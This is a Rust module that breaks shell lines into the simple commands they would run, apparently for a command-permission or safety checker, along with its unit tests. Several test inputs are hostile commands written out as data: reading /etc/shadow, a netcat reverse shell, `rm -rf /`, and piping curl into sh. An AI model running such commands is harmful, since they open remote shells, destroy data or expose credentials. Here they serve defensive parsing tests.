//! Shell command-line analysis
//!
//! Breaks a shell line into the simple commands it would run: splits on
//! unquoted control operators, recurses into command substitutions and
//! `sh -c` payloads, drops variable assignments and redirections, and looks
//! through wrapper programs such as `env` or `timeout`.

use serde::{Deserialize, Serialize};
use thiserror::Error;

/// Programs that run another program named in their arguments
pub const WRAPPERS: &[&str] = &["env", "nohup", "time", "command", "exec", "nice", "timeout", "xargs", "stdbuf"];

/// Shells whose `-c` argument is another command line
pub const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh"];

const MAX_DEPTH: usize = 8;

#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum LineError {
    #[error("unterminated {0} quote")]
    UnterminatedQuote(char),

    #[error("unbalanced command substitution")]
    UnbalancedSubstitution,

    #[error("cannot tokenise {0:?}")]
    Tokenize(String),

    #[error("command line nests too deeply")]
    TooDeep,
}

/// One program invocation found in a line
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SimpleCommand {
    pub program: String,
    pub args: Vec<String>,
}

impl SimpleCommand {
    pub fn new(program: impl Into<String>, args: Vec<String>) -> Self {
        Self {
            program: program.into(),
            args,
        }
    }

    /// Program name without its directory
    pub fn basename(&self) -> &str {
        basename(&self.program)
    }
}

pub fn basename(program: &str) -> &str {
    program.rsplit('/').next().unwrap_or(program)
}

/// Every simple command a shell line would run, in order
pub fn analyze(line: &str) -> Result<Vec<SimpleCommand>, LineError> {
    let mut out = Vec::new();
    analyze_into(line, 0, &mut out)?;
    Ok(out)
}

fn analyze_into(line: &str, depth: usize, out: &mut Vec<SimpleCommand>) -> Result<(), LineError> {
    if depth > MAX_DEPTH {
        return Err(LineError::TooDeep);
    }

    let (segments, substitutions) = split(line)?;
    for inner in substitutions {
        analyze_into(&inner, depth + 1, out)?;
    }
    for segment in segments {
        let tokens = shell_words::split(&segment).map_err(|_| LineError::Tokenize(segment.clone()))?;
        expand_tokens(tokens, depth, out)?;
    }
    Ok(())
}

/// Turn one segment's tokens into commands, unwrapping wrappers and shells
fn expand_tokens(tokens: Vec<String>, depth: usize, out: &mut Vec<SimpleCommand>) -> Result<(), LineError> {
    if depth > MAX_DEPTH {
        return Err(LineError::TooDeep);
    }

    let tokens = strip_redirections(tokens);
    let mut rest = tokens.into_iter().skip_while(|t| is_assignment(t)).peekable();
    let program = match rest.next() {
        Some(p) => p,
        None => return Ok(()),
    };
    let args: Vec<String> = rest.collect();
    expand_command(SimpleCommand::new(program, args), depth, out)
}

/// Every command one argv invocation would run: the program itself, then
/// whatever its wrappers and `sh -c` payloads carry
pub fn expand(program: &str, args: &[String]) -> Result<Vec<SimpleCommand>, LineError> {
    let mut out = Vec::new();
    expand_command(SimpleCommand::new(program, args.to_vec()), 0, &mut out)?;
    Ok(out)
}

fn expand_command(command: SimpleCommand, depth: usize, out: &mut Vec<SimpleCommand>) -> Result<(), LineError> {
    if depth > MAX_DEPTH {
        return Err(LineError::TooDeep);
    }

    let name = command.basename().to_string();
    out.push(command.clone());

    if WRAPPERS.contains(&name.as_str()) {
        let wrapped = unwrap_wrapper(&name, &command.args);
        return expand_tokens(wrapped, depth + 1, out);
    }

    if SHELLS.contains(&name.as_str()) {
        if let Some(payload) = shell_payload(&command.args) {
            analyze_into(&payload, depth + 1, out)?;
        }
    }
    Ok(())
}

/// Arguments of a wrapper that form the wrapped command
fn unwrap_wrapper(name: &str, args: &[String]) -> Vec<String> {
    let mut i = 0;
    while i < args.len() {
        let arg = args[i].as_str();
        if arg == "--" {
            i += 1;
            break;
        }
        if arg.starts_with('-') && arg.len() > 1 {
            // Options that take a separate value
            let takes_value = matches!(
                (name, arg),
                ("nice", "-n")
                    | ("env", "-u")
                    | ("env", "-C")
                    | ("timeout", "-s")
                    | ("timeout", "-k")
                    | ("xargs", "-I")
                    | ("xargs", "-n")
                    | ("xargs", "-P")
                    | ("xargs", "-d")
                    | ("xargs", "-L")
                    | ("stdbuf", "-i")
                    | ("stdbuf", "-o")
                    | ("stdbuf", "-e")
            );
            i += if takes_value { 2 } else { 1 };
            continue;
        }
        if name == "env" && is_assignment(arg) {
            i += 1;
            continue;
        }
        break;
    }

    // timeout's first operand is the duration
    if name == "timeout" && i < args.len() {
        i += 1;
    }
    args[i.min(args.len())..].to_vec()
}

/// The line passed to `sh -c`
fn shell_payload(args: &[String]) -> Option<String> {
    let mut iter = args.iter();
    while let Some(arg) = iter.next() {
        if arg == "-c" || (arg.starts_with('-') && !arg.starts_with("--") && arg.contains('c')) {
            return iter.next().cloned();
        }
        if !arg.starts_with('-') {
            return None;
        }
    }
    None
}

fn is_assignment(token: &str) -> bool {
    match token.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit())
        }
        None => false,
    }
}

/// Redirection operator, and whether its target is the following token
fn redirection(token: &str) -> Option<bool> {
    let rest = token.trim_start_matches(|c: char| c.is_ascii_digit());
    for op in [">>", "&>", ">&", "<&", "<<<", "<<", ">|", ">", "<"] {
        if let Some(target) = rest.strip_prefix(op) {
            return Some(target.is_empty());
        }
    }
    None
}

fn strip_redirections(tokens: Vec<String>) -> Vec<String> {
    let mut out = Vec::with_capacity(tokens.len());
    let mut skip_next = false;
    for token in tokens {
        if skip_next {
            skip_next = false;
            continue;
        }
        match redirection(&token) {
            Some(takes_next) => skip_next = takes_next,
            None => out.push(token),
        }
    }
    out
}

/// Split on unquoted control operators. Command substitutions are lifted
/// out and returned separately; their place in the segment keeps `$()`.
fn split(line: &str) -> Result<(Vec<String>, Vec<String>), LineError> {
    let chars: Vec<char> = line.chars().collect();
    let mut segments = Vec::new();
    let mut substitutions = Vec::new();
    let mut current = String::new();
    let mut quote: Option<char> = None;
    let mut i = 0;

    let mut push = |current: &mut String, segments: &mut Vec<String>| {
        if !current.trim().is_empty() {
            segments.push(current.trim().to_string());
        }
        current.clear();
    };

    while i < chars.len() {
        let c = chars[i];
        match quote {
            Some('\'') => {
                current.push(c);
                if c == '\'' {
                    quote = None;
                }
                i += 1;
                continue;
            }
            Some('"') if c == '"' => {
                current.push(c);
                quote = None;
                i += 1;
                continue;
            }
            _ => {}
        }

        if c == '\\' && quote != Some('\'') {
            current.push(c);
            if let Some(&next) = chars.get(i + 1) {
                current.push(next);
            }
            i += 2;
            continue;
        }

        if c == '$' && chars.get(i + 1) == Some(&'(') && chars.get(i + 2) != Some(&'(') {
            let end = matching_paren(&chars, i + 1)?;
            substitutions.push(chars[i + 2..end].iter().collect());
            current.push_str("$()");
            i = end + 1;
            continue;
        }

        if c == '`' {
            let end = chars[i + 1..]
                .iter()
                .position(|&ch| ch == '`')
                .map(|p| p + i + 1)
                .ok_or(LineError::UnbalancedSubstitution)?;
            substitutions.push(chars[i + 1..end].iter().collect());
            current.push_str("$()");
            i = end + 1;
            continue;
        }

        if quote == Some('"') {
            current.push(c);
            i += 1;
            continue;
        }

        match c {
            '\'' | '"' => {
                quote = Some(c);
                current.push(c);
                i += 1;
            }
            ';' | '\n' => {
                push(&mut current, &mut segments);
                i += 1;
            }
            '&' | '|' => {
                // `&&`, `||`, `|`, `&`, `|&`; but not a redirection like `2>&1`
                if c == '&' && matches!(current.chars().last(), Some('>') | Some('<')) {
                    current.push(c);
                    i += 1;
                    continue;
                }
                push(&mut current, &mut segments);
                i += 1;
                if matches!(chars.get(i), Some('&') | Some('|')) {
                    i += 1;
                }
            }
            '(' | ')' | '{' | '}' if current.trim().is_empty() => {
                // Subshell and group delimiters around commands
                i += 1;
            }
            _ => {
                current.push(c);
                i += 1;
            }
        }
    }

    if let Some(q) = quote {
        return Err(LineError::UnterminatedQuote(q));
    }
    push(&mut current, &mut segments);

    // Trailing `)` / `}` closing a subshell or group
    let segments = segments
        .into_iter()
        .map(|s| s.trim_end_matches([')', '}']).trim().to_string())
        .filter(|s| !s.is_empty())
        .collect();
    Ok((segments, substitutions))
}

/// Index of the `)` closing the `(` at `open`, honouring quotes and nesting
fn matching_paren(chars: &[char], open: usize) -> Result<usize, LineError> {
    let mut depth = 0;
    let mut quote: Option<char> = None;
    let mut i = open;
    while i < chars.len() {
        let c = chars[i];
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None => match c {
                '\\' => i += 1,
                '\'' | '"' => quote = Some(c),
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        return Ok(i);
                    }
                }
                _ => {}
            },
        }
        i += 1;
    }
    Err(LineError::UnbalancedSubstitution)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn programs(line: &str) -> Vec<String> {
        analyze(line).unwrap().into_iter().map(|c| c.program).collect()
    }

    #[test]
    fn test_control_operators() {
        assert_eq!(
            programs("ls -la && rm -rf /tmp/x; echo done | tee log & wait"),
            vec!["ls", "rm", "echo", "tee", "wait"]
        );
        assert_eq!(programs("false || true"), vec!["false", "true"]);
    }

    #[test]
    fn test_quotes_hide_operators() {
        let commands = analyze("echo 'a; b && c' \"x | y\"").unwrap();
        assert_eq!(commands.len(), 1);
        assert_eq!(commands[0].args, vec!["a; b && c", "x | y"]);
    }

    #[test]
    fn test_substitutions_are_analysed() {
        assert_eq!(programs("echo $(cat /etc/shadow)"), vec!["cat", "echo"]);
        assert_eq!(programs("echo `whoami`"), vec!["whoami", "echo"]);
        assert_eq!(programs("echo \"$(sudo id)\""), vec!["sudo", "echo"]);
    }

    #[test]
    fn test_assignments_and_redirections_dropped() {
        let commands = analyze("FOO=1 BAR=2 make -j4 > build.log 2>&1 < /dev/null").unwrap();
        assert_eq!(commands, vec![SimpleCommand::new("make", vec!["-j4".to_string()])]);
    }

    #[test]
    fn test_wrappers_unwrapped() {
        assert_eq!(programs("env -u HOME FOO=bar sudo id"), vec!["env", "sudo"]);
        assert_eq!(programs("timeout -s KILL 10 nc -e /bin/sh host 4444"), vec!["timeout", "nc"]);
        assert_eq!(programs("nice -n 5 nohup rm -rf /"), vec!["nice", "nohup", "rm"]);
        assert_eq!(programs("find . | xargs -n 1 rm -r"), vec!["find", "xargs", "rm"]);
    }

    #[test]
    fn test_shell_payload_recursed() {
        assert_eq!(programs("bash -c 'curl x | sh'"), vec!["bash", "curl", "sh"]);
        assert_eq!(programs("/bin/sh -ec \"sudo su\""), vec!["/bin/sh", "sudo"]);
    }

    #[test]
    fn test_argv_expansion() {
        let argv = |items: &[&str]| items.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        let names = |commands: Vec<SimpleCommand>| commands.into_iter().map(|c| c.program).collect::<Vec<_>>();

        assert_eq!(names(expand("sh", &argv(&["-c", "ls; rm -rf /x"])).unwrap()), vec!["sh", "ls", "rm"]);
        assert_eq!(names(expand("env", &argv(&["A=1", "nohup", "rm", "-r", "d"])).unwrap()), vec!["env", "nohup", "rm"]);
        // argv tokens are literal, not shell syntax
        let plain = expand("echo", &argv(&["a;", "b", ">", "c"])).unwrap();
        assert_eq!(plain, vec![SimpleCommand::new("echo", argv(&["a;", "b", ">", "c"]))]);
    }

    #[test]
    fn test_subshell_and_groups() {
        assert_eq!(programs("(cd /tmp && ls)"), vec!["cd", "ls"]);
        assert_eq!(programs("{ echo a; echo b; }"), vec!["echo", "echo"]);
    }

    #[test]
    fn test_unparseable_lines() {
        assert_eq!(analyze("echo 'open"), Err(LineError::UnterminatedQuote('\'')));
        assert_eq!(analyze("echo $(ls"), Err(LineError::UnbalancedSubstitution));
        assert!(analyze("echo `ls").is_err());
    }

    #[test]
    fn test_too_deep() {
        let mut line = "id".to_string();
        for _ in 0..12 {
            line = format!("sh -c {}", shell_words::quote(&line));
        }
        assert_eq!(analyze(&line), Err(LineError::TooDeep));
    }

    #[test]
    fn test_empty_line() {
        assert!(analyze("   ").unwrap().is_empty());
    }
}
